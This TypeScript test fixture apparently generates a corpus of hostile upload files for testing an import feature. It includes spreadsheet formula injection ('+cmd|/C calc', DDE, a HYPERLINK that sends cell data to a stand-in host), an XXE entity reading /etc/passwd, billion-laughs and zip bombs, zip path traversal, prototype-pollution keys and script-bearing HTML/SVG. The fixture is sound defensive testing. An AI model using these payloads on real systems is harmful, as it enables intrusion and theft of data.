/** 150 files and more that somebody could upload to do harm, or by mistake (S9). */
import { gzipSync } from 'node:zlib';
import { excelOf, wordOf, zipOf } from './zip.ts';

export interface HostileFile {
  name: string;
  content: Buffer;
}

const formulas = [
  '=1+1',
  '+cmd|/C calc!A0',
  '-2+3',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '=HYPERLINK("http://x.example/?"&A1)',
  '=IMPORTXML("http://x.example","//a")',
  '﹦1+1',
  '=DDE("cmd")',
];
const names = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', '__defineGetter__', 'valueOf'];
const text = (name: string, content: string): HostileFile => ({ name, content: Buffer.from(content) });
const cell = (value: string): string => `"${value.replaceAll('"', '""')}"`;

const cells = formulas.flatMap((formula, n) => [
  text(`formula-${n}.csv`, `a,b\n${cell(formula)},1\n`),
  text(`formula-head-${n}.csv`, `${cell(formula)},b\n1,2\n`),
  text(`formula-${n}.json`, JSON.stringify([{ a: formula, [formula]: 1 }])),
]);
const prototypes = names.flatMap((name) => [
  text(`${name}.csv`, `${name},b\n1,2\n`),
  text(`${name}-quoted.csv`, `"${name}","b"\n1,2\n`),
  text(`${name}.json`, `[{"${name}":{"polluted":true},"b":1}]`),
  text(`${name}-deep.json`, `{"data":{"items":[{"a":{"${name}":{"polluted":true}}}]}}`),
  text(`${name}.jsonl`, `{"${name}":1}\n{"b":2}\n`),
]);
const encodings = [
  { name: 'bom.csv', content: Buffer.from('\uFEFFa,b\n1,2\n') },
  { name: 'two-boms.csv', content: Buffer.from('\uFEFF\uFEFFa,b\n1,2\n') },
  { name: 'utf16le.csv', content: Buffer.from('\uFEFFa,b\n1,2\n', 'utf16le') },
  { name: 'utf16le-odd.csv', content: Buffer.concat([Buffer.from('\uFEFFa,b\n1,2\n', 'utf16le'), Buffer.from([0x41])]) },
  { name: 'utf16be.csv', content: Buffer.from('\uFEFFa,b\n1,2\n', 'utf16le').swap16() },
  { name: 'utf32.csv', content: Buffer.from([0xff, 0xfe, 0, 0, 0x61, 0, 0, 0]) },
  { name: 'latin1.csv', content: Buffer.from('a,b\né,ü\n', 'latin1') },
  { name: 'overlong.csv', content: Buffer.from([0x61, 0x2c, 0xc0, 0xaf, 0x0a, 0x31, 0x2c, 0x32, 0x0a]) },
  { name: 'surrogates.csv', content: Buffer.from([0x61, 0x0a, 0xed, 0xa0, 0x80, 0x0a]) },
  { name: 'nul.csv', content: Buffer.from('a,b\n1,\0\n') },
  { name: 'nul-head.csv', content: Buffer.from('a\0,b\n1,2\n') },
  { name: 'controls.csv', content: Buffer.from('a,b\n\u0001,\u001b[31m\n') },
  { name: 'right-to-left.csv', content: Buffer.from('a,\u202eb\n1,2\n') },
  { name: 'nul.json', content: Buffer.from('[{"a":"\\u0000"}]') },
  { name: 'lone.json', content: Buffer.from('[{"a":"\\ud800"}]') },
  { name: 'latin1.json', content: Buffer.from('[{"a":"é"}]', 'latin1') },
  { name: 'bom.json', content: Buffer.from('\uFEFF[{"a":1}]') },
];
const sizes = [
  text('columns-1e6.csv', `${'a,'.repeat(1_000_000)}\n1\n`),
  text('columns-1001.csv', `${Array.from({ length: 1_001 }, (_, n) => `c${n}`).join(',')}\n1\n`),
  text('same-columns-900.csv', `${'a,'.repeat(900)}a\n1\n`),
  text('quote-bomb.csv', `a,b\n${'"'.repeat(1_000_000)}\n`),
  text('double-quotes.csv', `a\n"${'""'.repeat(500_000)}"\n`),
  text('never-closed.csv', `a,"b\n${'x,y\n'.repeat(200_000)}`),
  text('quote-in-cell.csv', 'a,b\nx"y"z,"1"2\n'),
  text('long-cell.csv', `a\n${'x'.repeat(5_000_000)}\n`),
  text('one-line.csv', 'x'.repeat(10_000_000)),
  text('rows-300000.csv', `a\n${'1\n'.repeat(300_000)}`),
  text('empty-rows.csv', '\n'.repeat(1_000_000)),
  text('delimiters.csv', ','.repeat(500_000)),
  text('carriage.csv', 'a,b\r1,2\r3,4'),
  text('mixed-ends.csv', 'a,b\r\n1,2\n3,4\r5,6\n\r'),
  text('ragged.csv', 'a,b\n1\n1,2,3,4,5\n\n,\n'),
  text('name-300.csv', `${'n'.repeat(300)},b\n1,2\n`),
  text('empty.csv', ''),
  text('blank.csv', ' \n\t\n'),
];
const json = [
  text('depth-1e5.json', `${'['.repeat(100_000)}${']'.repeat(100_000)}`),
  text('depth-1e5-open.json', '{"a":'.repeat(100_000)),
  text('depth-65.json', `[${'{"a":'.repeat(65)}1${'}'.repeat(65)}]`),
  text('depth-1e5.jsonl', `${'['.repeat(100_000)}\n{"a":1}\n`),
  text('duplicate-keys.json', '[{"a":1,"a":2,"a":{"b":3}}]'),
  text('keys-1e5.json', `[{${Array.from({ length: 100_000 }, (_, n) => `"k${n}":${n}`).join(',')}}]`),
  text('huge-number.json', '[{"a":1e999,"b":-1e999,"c":1e-999,"d":-0,"e":12345678901234567890}]'),
  text('many-digits.json', `[{"a":${'9'.repeat(1_000_000)}}]`),
  text('not-a-number.json', '[{"a":NaN,"b":Infinity}]'),
  text('trailing-comma.json', '[{"a":1},]'),
  text('comment.json', '// x\n[{"a":1}]'),
  text('two-values.json', '[{"a":1}][{"b":2}]'),
  text('half.json', '[{"a":1},{"b":'),
  text('half-string.json', '[{"a":"never closed'),
  text('null.json', 'null'),
  text('true.json', 'true'),
  text('number.json', '5'),
  text('string.json', '"x"'),
  text('mixed.json', '[1,"a",null,[2],{"b":3}]'),
  text('empty.json', ''),
  text('long-string.json', `[{"a":"${'x'.repeat(10_000_000)}"}]`),
  text('many.json', `[${Array.from({ length: 150_000 }, () => '{}').join(',')}]`),
  text('half-lines.jsonl', '{"a":1}\n{"b":\n{"c":3}\n'),
  text('not-lines.jsonl', '{"a":1}{"b":2}'),
  text('single-quotes.json', "[{'a':1}]"),
  text('billion.json', `{"a":${'['.repeat(60)}${']'.repeat(60)}}`),
];
const sheet = (rows: string, head = ''): string =>
  `<?xml version="1.0"?>${head}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>${rows}</sheetData></worksheet>`;
const row = '<row r="1"><c r="A1" t="inlineStr"><is><t>a</t></is></c></row>';
const laughs = `<!DOCTYPE l [<!ENTITY a "ha">${'bcdefghij'
  .split('')
  .map((name, n) => `<!ENTITY ${name} "${`&${'abcdefghij'[n]};`.repeat(10)}">`)
  .join('')}]>`;
const zeros = (mb: number): Buffer => Buffer.alloc(mb * 1_048_576);
const office: HostileFile[] = [
  { name: 'fine.xlsx', content: excelOf(sheet(row)) },
  { name: 'no-sheet.xlsx', content: zipOf([{ name: 'a.txt', content: Buffer.from('x') }]) },
  { name: 'empty-zip.xlsx', content: zipOf([]) },
  { name: 'cut.xlsx', content: excelOf(sheet(row)).subarray(0, 400) },
  { name: 'laughs.xlsx', content: excelOf(sheet(row.replace('>a<', '>&j;<'), laughs)) },
  { name: 'entity.xlsx', content: excelOf(sheet(row.replace('>a<', '>&x;<'), '<!DOCTYPE l [<!ENTITY x SYSTEM "file:///etc/passwd">]>')) },
  { name: 'far-cell.xlsx', content: excelOf(sheet('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')) },
  { name: 'bad-cell.xlsx', content: excelOf(sheet('<row r="-1"><c r="__proto__"><v>1</v></c></row>')) },
  { name: 'broken-xml.xlsx', content: excelOf('<worksheet><sheetData><row>') },
  { name: 'zeros.xlsx', content: excelOf(sheet(row), [{ name: 'xl/media/zeros.bin', content: zeros(250) }]) },
  { name: 'lies.xlsx', content: excelOf(sheet(row), [{ name: 'xl/sharedStrings.xml', content: zeros(250), says: 100 }]) },
  { name: 'traversal.xlsx', content: excelOf(sheet(row), [{ name: '../../../../tmp/hub-hostile', content: Buffer.from('x') }]) },
  { name: 'many-entries.xlsx', content: zipOf(Array.from({ length: 12_000 }, (_, n) => ({ name: `f${n}`, content: Buffer.alloc(0) }))) },
  { name: 'formula.xlsx', content: excelOf(sheet('<row r="1"><c r="A1"><f>1+1</f><v>=2</v></c></row>')) },
  {
    name: 'fine.docx',
    content: wordOf(
      '<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>a</w:t></w:r></w:p></w:body></w:document>',
    ),
  },
  { name: 'laughs.docx', content: wordOf(`<?xml version="1.0"?>${laughs}<w:document xmlns:w="x"><w:body>&j;</w:body></w:document>`) },
  {
    name: 'nested.zip',
    content: zipOf([{ name: 'a.zip', content: zipOf([{ name: 'b.zip', content: zipOf([{ name: 'c', content: zeros(50) }]) }]) }]),
  },
];
const magic: [string, Buffer][] = [
  ['zip', Buffer.from([0x50, 0x4b, 3, 4, 20, 0])],
  ['gzip', gzipSync(zeros(20))],
  ['pdf', Buffer.from('%PDF-1.7\n%abc')],
  ['png', Buffer.from([0x89, 0x50, 0x4e, 0x47, 13, 10, 26, 10])],
  ['exe', Buffer.from('MZ\x90\0')],
  ['elf', Buffer.from('\x7fELF\x02')],
  ['ole', Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1])],
  ['html', Buffer.from('<!DOCTYPE html><script>alert(1)</script>')],
  ['svg', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')],
  ['xml', Buffer.from(`<?xml version="1.0"?>${laughs}<a>&j;</a>`)],
];
const renamed = magic.flatMap(([kind, content]) =>
  ['csv', 'json', 'xlsx', 'pdf', 'docx'].map((ending) => ({ name: `${kind}-renamed.${ending}`, content })),
);

export const hostileFiles: readonly HostileFile[] = [...cells, ...prototypes, ...encodings, ...sizes, ...json, ...office, ...renamed];
